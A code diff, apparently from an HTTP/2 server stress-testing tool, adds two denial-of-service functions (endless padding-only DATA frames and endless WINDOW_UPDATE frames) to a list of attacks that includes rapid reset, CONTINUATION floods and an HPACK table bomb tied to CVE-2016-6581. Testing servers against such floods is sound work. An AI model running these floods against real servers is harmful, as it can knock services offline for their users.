@@ -143,6 +143,22 @@ def empty_data(port, _count):
     return flood_http2(port, frames)
 
 
+def padded_data(port, _count):
+    """Endless DATA frames that have only padding."""
+
+    def frames():
+        yield frame(HEADERS, 4, 1, POST)
+        while True:
+            yield frame(DATA, 8, 1, b"\0")
+
+    return flood_http2(port, frames)
+
+
+def window_updates(port, _count):
+    """Endless WINDOW_UPDATE frames."""
+    return flood_http2(port, lambda: endless(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")))
+
+
 def table_bomb(port, _count):
     """A header block that repeats a large entry of the HPACK table (CVE-2016-6581)."""
     literal = b"\x40\x03x-a\x7f\x81\x1e" + b"a" * 4000
@@ -166,7 +182,8 @@ def closed_windows(port, count):
 
 ATTACKS = (
     silent, slow_heads, slow_bodies, slow_readers, endless_field, endless_fields, endless_extension, endless_trailers, empty_lines,
-    rapid_reset, made_you_reset, continuation, empty_continuation, settings, pings, priorities, empty_data, table_bomb, closed_windows,
+    rapid_reset, made_you_reset, continuation, empty_continuation, settings, pings, priorities, empty_data, padded_data, window_updates,
+    table_bomb, closed_windows,
 )
 
 
